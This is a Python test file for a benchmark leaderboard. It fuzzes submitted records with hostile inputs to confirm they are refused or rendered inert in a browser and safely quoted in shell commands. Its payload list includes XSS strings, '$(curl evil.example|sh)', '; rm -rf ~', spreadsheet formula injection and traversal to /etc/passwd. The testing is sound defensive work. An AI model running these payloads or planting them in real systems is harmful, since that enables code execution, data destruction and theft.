"""Five hundred hostile submissions: each is refused, naming its file, or shown and inert in a real browser."""

import copy
import hashlib
import json
import random
import subprocess
from pathlib import Path
from typing import Any

import pytest

from mae_bench.leaderboard.build import build
from mae_bench.leaderboard.check import check
from mae_bench.leaderboard.command import command_of, shell_text
from mae_bench.spec import RunSpec
from mae_bench.values import digest
from tests.files.browser import chromium, needs_browser, watch
from tests.files.records import CASES, IDENTITIES, REAL, SPLIT, csv_of, draw_scores, make_run

__all__ = ["chromium"]  # a fixture
COUNT = 500
# What an attacker would want a page, a shell, a spreadsheet, a file system or a reader to take for more than text.
TEXTS = [
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<img src=x onerror=alert(3)>",
    "<svg/onload=alert(4)>", "\"><script>alert(5)</script>", "' onmouseover='alert(6)", "javascript:alert(7)",
    "<a href=\"javascript:alert(8)\">click</a>", "<iframe src=https://evil.example></iframe>", "{{ 7*7 }}{% raw %}",
    "${alert(9)}", "<!--<script>", "]]><script>alert(10)</script>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "`alert(11)`",
    "\\u003cscript\\u003ealert(12)\\u003c/script\\u003e",
    "&lt;script&gt;alert(13)&lt;/script&gt;", "<a href='https://evil.example'>plotly</a>",
    "<b>bold</b><br><sup>x</sup>",
    "; rm -rf ~", "$(curl evil.example|sh)", "`id`", "a' ; id ; '", "=HYPERLINK(\"https://evil.example\")", "@SUM(1)",
    "../../../etc/passwd", "/etc/passwd", "..\\..\\windows", "C:\\con", "file:///etc/passwd", "a\0b", "\u202egnp.exe",
    "[x](javascript:alert(14))", "![x](https://evil.example/x.png)", "| a | b |", "\u2028alert(15)\u2029", "x" * 20_000,
    "\ud800", "𝕬" * 100, "--set", "-rf", "\x1b[31m", "%s%n%x", "__proto__", "constructor",
]  # fmt: skip
NUMBERS = [
    float("nan"),
    float("inf"),
    -float("inf"),
    1e308,
    -1e308,
    10**400,
    -(10**30),
    1e-320,
    2**63,
    -1,
    0.5,
    True,
    "NaN",
]
VALUES: list[Any] = [*TEXTS, *NUMBERS, None, [], {}, [[[[]]]], {"a": {"b": {}}}, [TEXTS[0]] * 3, {TEXTS[0]: TEXTS[1]}]


def leaves(value: Any, place: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Paths of everything in a document, inner things after outer ones."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [place, *(leaf for name, part in inner for leaf in leaves(part, (*place, name)))] if place else [
        leaf for name, part in inner for leaf in leaves(part, (name,))
    ]  # fmt: skip


def put(document: Any, place: tuple[Any, ...], value: Any) -> None:
    for name in place[:-1]:
        document = document[name]
    document[place[-1]] = value


def fuzzed(number: int) -> tuple[str, bytes, bytes]:
    """Name, record and scores of one submission: a good one, hurt in one to three places."""
    draw = random.Random(number)
    record, table = make_run({"data.fingerprint": f"f{number}"}, intervals=False)
    document, scores = copy.deepcopy(record.to_json()), csv_of(table)
    for _ in range(draw.choice((1, 1, 2, 3))):
        put(document, draw.choice(leaves(document)), draw.choice(VALUES))
    name = record.key
    if number % 5 == 0 and isinstance(document.get("spec"), dict):
        try:  # the attacker can compute a key as well as we can
            name = RunSpec.model_validate(document["spec"]).key()
            document["key"] = name
            document["cases"] = {"file": f"{name}.cases.csv", "sha256": hashlib.sha256(scores).hexdigest()}
        except ValueError:
            pass
    text = json.dumps(document).encode("utf-8", "replace")
    if number % 7 == 0:
        at = draw.randrange(len(text))
        text = text[:at] + bytes([draw.randrange(256)]) + text[at + draw.randrange(40) :]
    if number % 11 == 0:
        scores = scores.replace(b"case_0", draw.choice([b"<b>", b"nan", b"\xff", b"1e999,", b"=1+"]), 1)
    return name, text, scores


def inert(number: int) -> tuple[str, bytes, bytes]:
    """A submission that keeps every rule, with hostile texts in every place where any text may stand."""
    text = [each for each in TEXTS if not set(each) & set("\0\x1b\u202e\ud800") and len(each) < 10_000]
    word = text[number % len(text)]
    cases = [f"{case} {word}" for case in CASES]
    split = SPLIT | {"test": cases}
    changes = {
        "seed": number, "pretrain.options": {"ratio": 0.75, "text": word}, "dataset.options": {"path": word},
        "protocol.summary": word, "recipe.summary": word, "data.fingerprint": word, "data.skipped": [f"{word}{number}"],
    }  # fmt: skip
    known = {case: IDENTITIES[case.removesuffix(f" {word}")] for side in split.values() for case in side}
    identities = {case: each | {"subject": f"{each['subject']} {word}"} for case, each in known.items()}
    spec = make_run(changes | {"data.split": digest(split)}, intervals=False, data={"split": split})[0].spec
    table = draw_scores(spec, 0.1).assign(case=cases)
    table[f"dice/{word}"] = table["dice"]
    record, _ = make_run(
        changes, cases=table, data={"split": split, "identities": identities, "fingerprint": word}, reason=word,
        environment={word: word, "list": [word]}, plugins={word: {"dist": word, "version": word}},
        events=[{"event": word, word: word}], transfer={"source": word, "details": [word]},
        cost={"wall_s": 1.0, "pretrain_s": 0.5, "samples": 1, "peak_memory_mb": 1.0, "device": word},
    )  # fmt: skip
    return record.key, json.dumps(record.to_json()).encode(), csv_of(table)


def write(folder: Path, name: str, record: bytes, scores: bytes) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.json").write_bytes(record)
    (folder / f"{name}.cases.csv").write_bytes(scores)


def test_submissions_are_refused_by_name_or_are_records_that_keep_every_rule(tmp_path: Path) -> None:
    refused = 0
    for number in range(COUNT):
        name, record, scores = fuzzed(number)
        folder = tmp_path / str(number) / REAL / "records"
        write(folder, name, record, scores)
        found = check(tmp_path / str(number), intervals=False)
        refused += bool(found.problems)
        assert all(name in problem for problem in found.problems)
        assert all(problem.isprintable() or "\n" in problem for problem in found.problems)
        if not found.problems:
            (submission,) = found.submissions
            assert submission.record.spec.key() == name
    print(f"{refused} of {COUNT} refused")
    assert refused > 0.8 * COUNT


@pytest.mark.slow
@needs_browser
def test_what_is_shown_is_inert(tmp_path: Path, chromium: Any) -> None:
    """Everything that passed the checks, and records made of hostile texts alone, in one site, every page opened."""
    folder = tmp_path / "in" / REAL / "records"
    for number in range(COUNT):
        name, record, scores = fuzzed(number)
        write(tmp_path / "one" / REAL / "records", name, record, scores)
        if not check(tmp_path / "one", intervals=False).problems:
            write(folder, name, record, scores)
        for path in (tmp_path / "one" / REAL / "records").iterdir():
            path.unlink()
    for number in range(len(TEXTS)):
        write(folder, *inert(COUNT + number))
    built = build(tmp_path / "in", tmp_path / "out")
    print(f"{built.records} records shown")
    assert built.records >= 40
    pages = sorted(path.relative_to(tmp_path / "out") for path in (tmp_path / "out").rglob("*.html"))
    with watch(chromium, tmp_path / "out") as watched:
        for page in pages:
            watched.open(str(page))
            for details in watched.page.query_selector_all("details:not([open]) > summary"):
                details.click()
            assert (
                watched.page.evaluate(
                    "document.querySelectorAll('main script:not([type]), iframe, object, embed, base').length"
                )
                == 0
            )
            assert watched.page.evaluate(
                "[...document.querySelectorAll('main *')]"
                ".every(e => [...e.attributes].every(a => !a.name.startsWith('on')))"
            )
            links = watched.page.evaluate(
                "[...document.querySelectorAll('a, svg a')].map(a => a.href.baseVal ?? a.href)"
            )
            assert all(link.startswith("file:") for link in links), links
        for page in [each for each in pages if each.parts[0] == "boards"] + pages[-60:]:
            watched.open(str(page))
            watched.scroll()
            links = watched.page.evaluate("[...document.querySelectorAll('.plot a')].length")
            assert links == watched.page.evaluate("[...document.querySelectorAll('.modebar a')].length")
        assert watched.strange == []


@pytest.mark.parametrize("word", [text for text in TEXTS if "\0" not in text and "\ud800" not in text], ids=repr)
def test_a_command_is_one_word_for_each_word(word: str) -> None:
    """What a reader pastes into a shell: the shell takes hostile values for text."""
    spec = make_run({"pretrain.options": {"text": word}, "dataset.options": {"path": word}}, intervals=False)[0].spec
    words = command_of(spec)
    answer = subprocess.run(["sh", "-c", f"printf '%s\\0' {shell_text(words)}"], capture_output=True, check=True)
    assert answer.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1] == words
